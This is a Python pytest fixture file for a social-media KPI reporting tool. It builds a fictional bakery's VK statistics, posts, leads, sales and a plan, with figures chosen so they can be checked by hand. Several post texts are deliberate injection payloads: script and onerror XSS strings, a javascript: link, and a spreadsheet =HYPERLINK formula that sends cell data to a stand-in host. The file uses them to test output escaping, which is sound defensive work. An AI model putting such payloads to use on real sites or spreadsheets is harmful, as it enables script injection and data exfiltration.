"""A bakery whose March 2026 a person can compute by hand, with hostile post texts.

Client ``bakery`` (Europe/Moscow, RUB): main goal community, secondary goal sales; one VK
account with 1,000 followers every day.

- March 2026: daily statistics on 28 days (10–12 March missing): reach 100 and 12 link clicks
  a day → reach 2,800, link clicks 336. February 2026: 28 days × 10 clicks = 280; March 2025:
  31 days × 8 clicks = 248.
- Posts of March 2026 (ERR = interactions / reach):
  P1 "<script>…" 70 / 1,000 = 7 %; P2 "=HYPERLINK(…)" 25 / 500 = 5 %; P5 "-минус </script>…"
  40 / 1,000 = 4 %; P4 "<img onerror…>" (link ``javascript:``) 10 / 400 = 2.5 %;
  P3 "+7 999…" 30 / 2,000 = 1.5 %. ER = 175 / (5 × 1,000) = 3.5 %; ERR = 175 / 4,900 =
  3.5714 %. February: one post, 20 interactions → ER 2 %.
- 620 social site sessions (20 a day), 10 leads from VK, 2 sales of 50,000 ₽, ad spend
  20,000 ₽ → CPL 2,000 ₽, ROMI (100,000 − 20,000) / 20,000 = 400 %.
- The plan for March 2026 (set by hand): ER 3.0 % (attainment 116.67 %), ERR 4.0 %
  (89.29 %), leads 8 (125 %), CPL 2,500 ₽ (lower is better: 2,500 / 2,000 = 125 %).
"""

from __future__ import annotations

import uuid
from datetime import date, timedelta
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from smmkpi.cli.app import app
from tests.conftest import ENGINES, write_table

HOSTILE = {
    "P1": "<script>alert(1)</script> Весенний хлеб",
    "P2": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "P3": "+7 999 000-00-00 звоните",
    "P4": "<img src=x onerror=alert(1)> @bakery",
    "P5": "-минус </script><script>alert(2)</script>",
}
AS_OF = "2026-04-10"


def days(first: date, last: date, skip: tuple[date, ...] = ()) -> list[date]:
    found = [first + timedelta(days=i) for i in range((last - first).days + 1)]
    return [d for d in found if d not in skip]


def cli(runner: CliRunner, folder: Path, *args: object) -> str:
    result = runner.invoke(app, ["-w", str(folder), "--lang", "en", *(str(a) for a in args)])
    assert result.exit_code == 0, result.output
    return result.stdout


def write_bakery(data: Path) -> None:
    write_table(
        data,
        "clients",
        [
            {
                "client_id": "bakery",
                "name": "Пекарня «Колос»",
                "timezone": "Europe/Moscow",
                "currency": "RUB",
                "goal": "community",
            }
        ],
    )
    write_table(
        data,
        "accounts",
        [{"account_id": "bakery-vk", "client_id": "bakery", "platform": "vk", "name": "Колос"}],
    )
    gap = (date(2026, 3, 10), date(2026, 3, 11), date(2026, 3, 12))
    daily = [
        {"account_id": "bakery-vk", "date": d, "followers": 1000, "reach": 100, "link_clicks": 12}
        for d in days(date(2026, 3, 1), date(2026, 3, 31), gap)
    ]
    daily += [
        {"account_id": "bakery-vk", "date": d, "followers": 1000, "reach": 100, "link_clicks": 10}
        for d in days(date(2026, 2, 1), date(2026, 2, 28))
    ]
    daily += [
        {"account_id": "bakery-vk", "date": d, "followers": 1000, "reach": 100, "link_clicks": 8}
        for d in days(date(2025, 3, 1), date(2025, 3, 31))
    ]
    write_table(
        data,
        "account_daily",
        daily,
        ["account_id", "date", "followers", "reach", "link_clicks"],
    )
    posts = [
        ("P1", "2026-03-02T10:00:00+03:00", 1000, (50, 10, 5, 5), "https://vk.com/wall-1_1"),
        ("P2", "2026-03-05T10:00:00+03:00", 500, (20, 5, None, None), "https://vk.com/wall-1_2"),
        (
            "P3",
            "2026-03-15T10:00:00+03:00",
            2000,
            (30, None, None, None),
            "https://vk.com/wall-1_3",
        ),
        ("P4", "2026-03-20T10:00:00+03:00", 400, (8, 2, None, None), "javascript:alert(1)"),
        (
            "P5",
            "2026-03-25T10:00:00+03:00",
            1000,
            (40, None, None, None),
            "https://vk.com/wall-1_5",
        ),
        ("F1", "2026-02-10T10:00:00+03:00", 800, (20, None, None, None), "https://vk.com/wall-1_0"),
    ]
    write_table(
        data,
        "posts",
        [
            {
                "account_id": "bakery-vk",
                "post_id": post_id,
                "published_at": published,
                "text": HOSTILE.get(post_id, "Февральский пост"),
                "url": url,
                "reach": reach,
                "likes": parts[0],
                "comments": parts[1],
                "shares": parts[2],
                "saves": parts[3],
                "captured_at": "2026-04-05T00:00:00+03:00",
            }
            for post_id, published, reach, parts, url in posts
        ],
        [
            "account_id",
            "post_id",
            "published_at",
            "text",
            "url",
            "reach",
            "likes",
            "comments",
            "shares",
            "saves",
            "captured_at",
        ],
    )
    march = days(date(2026, 3, 1), date(2026, 3, 31))
    write_table(
        data,
        "web_sessions",
        [
            {
                "client_id": "bakery",
                "date": d,
                "utm_source": "vk",
                "utm_medium": "social",
                "sessions": 20,
            }
            for d in march
        ],
        ["client_id", "date", "utm_source", "utm_medium", "sessions"],
    )
    write_table(
        data,
        "leads",
        [
            {
                "client_id": "bakery",
                "lead_id": f"L{i}",
                "created_at": f"2026-03-{i + 1:02d}T12:00:00+03:00",
                "utm_source": "vk",
            }
            for i in range(10)
        ],
        ["client_id", "lead_id", "created_at", "utm_source"],
    )
    write_table(
        data,
        "sales",
        [
            {
                "client_id": "bakery",
                "sale_id": f"S{i}",
                "lead_id": f"L{i}",
                "closed_at": f"2026-03-{20 + i}T12:00:00+03:00",
                "amount": "50000",
                "utm_source": "vk",
            }
            for i in range(2)
        ],
        ["client_id", "sale_id", "lead_id", "closed_at", "amount", "utm_source"],
    )
    write_table(
        data,
        "ad_spend",
        [{"client_id": "bakery", "date": "2026-03-01", "platform": "vk_ads", "amount": "20000"}],
        ["client_id", "date", "platform", "amount"],
    )


PLAN = {
    "plan_id": "bakery-2026-03",
    "client": "bakery",
    "start": "2026-03",
    "months": 1,
    "goals": ["community", "sales"],
    "kpis": [
        {"kpi": "er", "role": "main", "targets": {"2026-03": {"target": 3.0, "source": "manual"}}},
        {"kpi": "err", "role": "main", "targets": {"2026-03": {"target": 4.0, "source": "manual"}}},
        {
            "kpi": "leads",
            "role": "secondary",
            "targets": {"2026-03": {"target": 8, "source": "manual"}},
        },
        {
            "kpi": "cpl",
            "role": "secondary",
            "targets": {"2026-03": {"target": 2500, "source": "manual"}},
        },
        {"kpi": "contact_clicks", "role": "secondary"},
    ],
}


@pytest.fixture(scope="session", params=ENGINES)
def bakery(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bakery's workspace: data, brief, plan and the branding settings — on each engine."""
    runner = CliRunner()
    root = tmp_path_factory.mktemp("bakery")
    folder, data = root / "ws", root / "data"
    write_bakery(data)
    if request.param == "postgresql":
        server = request.getfixturevalue("postgres_server")
        cli(runner, folder, "init", "--store", server.new_database(f"bakery{uuid.uuid4().hex[:8]}"))
    else:
        cli(runner, folder, "init")
    cli(runner, folder, "import", data)
    brief = root / "brief.yaml"
    brief.write_text(
        yaml.safe_dump(
            {
                "main_goal": "community",
                "secondary_goals": ["sales"],
                "real_goal": "Постоянные гости <b>и</b> заказы тортов",
            },
            allow_unicode=True,
        ),
        encoding="utf-8",
    )
    cli(runner, folder, "brief", "bakery", "--file", brief)
    plan = root / "plan.yaml"
    plan.write_text(yaml.safe_dump(PLAN, allow_unicode=True), encoding="utf-8")
    cli(runner, folder, "plan", "import", plan)
    settings = folder / "smmkpi.toml"
    settings.write_text(
        settings.read_text(encoding="utf-8")
        .replace('# specialist = ""', 'specialist = "Ира"')
        .replace("# best_posts = 5", "best_posts = 2"),
        encoding="utf-8",
    )
    return folder
